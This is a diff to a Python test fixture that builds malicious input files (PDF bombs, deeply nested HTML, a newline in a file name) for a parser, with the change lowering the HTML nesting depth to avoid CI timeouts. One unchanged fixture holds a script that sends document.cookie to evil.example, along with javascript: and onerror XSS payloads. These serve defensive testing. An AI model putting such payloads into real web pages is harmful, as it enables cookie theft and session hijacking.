@@ -95,7 +95,9 @@ def bad_files() -> dict[str, bytes]:
         "page-bomb.pdf": page_bomb_pdf(),
         "deflate-bomb.pdf": deflate_bomb_pdf(),
         "not-a-pdf.pdf": b"%PDF-1.4\nthis is not really a pdf",
-        "nested.html": ("<div>" * 20000 + "Deep text about trade." + "</div>" * 20000).encode(),
+        # five times Python's recursion limit deep; BeautifulSoup's tree work grows with the square of the depth
+        # (20,000 levels took 20 s, the hang detector's limit, on a loaded CI machine)
+        "nested.html": ("<div>" * 5000 + "Deep text about trade." + "</div>" * 5000).encode(),
         "scripts.html": b"<html><body><script>fetch('http://evil.example/'+document.cookie)</script>"
                         b"<p onerror=alert(1)>Visible text <a href='javascript:alert(1)'>link</a></p></body></html>",
         "name with\nnewline.txt": b"A file whose name holds a newline.",
